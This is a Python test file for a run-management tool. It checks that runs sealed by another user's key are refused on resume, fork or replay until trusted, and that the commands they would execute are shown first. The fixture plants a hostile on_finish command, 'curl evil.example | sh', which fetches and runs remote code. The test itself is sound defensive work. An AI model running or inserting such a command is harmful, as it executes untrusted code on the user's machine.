"""Runs from elsewhere: known by a seal that only this user's key makes, and asked about before they go on."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import msgspec
import pytest

from engines.basics import yaml12
from engines.basics.errors import UserError
from engines.host import identity
from engines.host.preferences import settings_path
from engines.runs import launch, trust
from engines.runs.fork import prepare_fork
from engines.runs.replay import prepare_replay
from engines.runs.store import create_run
from tests.support.fake_run import FakeRun, stopped_early


@pytest.fixture
def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the user's settings are."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path


def from_elsewhere(folder: Path) -> FakeRun:
    fake = stopped_early(FakeRun(folder))
    config = yaml12.read(fake.run.config.read_text())[0]
    config["cost"] = {"on_finish": "curl evil.example | sh"}
    for path in (fake.run.config, fake.run.recorded_config):
        path.write_text(yaml12.write(config))
    fake.run.write_info(msgspec.structs.replace(fake.run.info, seal="0" * 32, made_by="mallory@far"))
    return fake


def test_a_command_in_either_config_is_shown(own: Path) -> None:
    fake = from_elsewhere(own / "runs")
    fake.run.recorded_config.parent.mkdir(exist_ok=True)
    code = "data: {path: /data, dataset: 'samples.py:Rows'}"
    (fake.run.attempts / "config.yaml").write_text("cost: {on_finish: hidden}\n" + code)
    shown = trust.what_it_runs(fake.run)
    assert [line.rpartition(": ")[2] for line in shown[2:]] == ["curl evil.example | sh", "samples.py:Rows", "hidden"]
    assert shown[3] == "data.dataset names code: samples.py:Rows"


@pytest.mark.behaviour("run-from-elsewhere-asks")
def test_nothing_of_a_run_from_elsewhere_starts_before_it_is_trusted(own: Path) -> None:
    fake = from_elsewhere(own / "runs")
    for begin in (launch.prepare_resume, prepare_fork):
        with pytest.raises(UserError) as refused:
            begin(fake.run, ["training.patience=9"])
        told = str(refused.value).splitlines()
        assert told[0] == f"{fake.id} was made elsewhere, by mallory@far."
        assert "it starts the module engines.train with the project controls" in told[1]
        assert told[2].endswith("this runs: curl evil.example | sh.")
        assert told[3] == "If you want that, add --trust."
    assert trust.is_from_elsewhere(fake.run.info)
    launch.prepare_resume(fake.run, ["training.patience=9"], trusted=True)
    assert not trust.is_from_elsewhere(fake.run.info)
    launch.prepare_resume(fake.run, ["training.patience=9"])  # asked once


def test_a_replay_asks_too(own: Path) -> None:
    fake = from_elsewhere(own / "runs")
    with pytest.raises(UserError, match="was made elsewhere, by mallory@far"):
        prepare_replay(fake.run)


def test_a_run_of_ones_own_may_move(own: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COCKPIT_RUNS", str(own / "runs"))
    run = create_run("controls", "project: controls\n", kind="training", engine="engines.train", title="")
    assert trust.what_it_runs(run) == []
    assert run.info.made_by == identity.maker()
    shutil.copytree(run.path, own / "moved")
    assert not trust.is_from_elsewhere(type(run)(own / "moved").info)
    forged = msgspec.structs.replace(run.info, id="controls-20261127-201400-other")
    assert trust.is_from_elsewhere(forged)  # a seal is of one id
    key = settings_path().with_name("identity.key")
    assert (key.stat().st_mode & 0o777, len(key.read_bytes())) == (0o600, 32)
    key.unlink()  # another user, or a machine whose settings are gone
    assert trust.is_from_elsewhere(run.info)


def test_where_no_key_can_be_kept_no_seal_counts(own: Path) -> None:
    (own / "config").write_text("a file where the folder belongs")
    assert identity.seal("a") == ""
    assert not identity.is_sealed("a", "")


def test_a_damaged_key_is_made_new(own: Path) -> None:
    key = settings_path().with_name("identity.key")
    key.parent.mkdir(parents=True)
    key.write_bytes(b"short")
    assert identity.is_sealed("a", seal := identity.seal("a"))
    assert seal == identity.seal("a")
    assert sorted(os.listdir(key.parent)) == ["identity.key"]
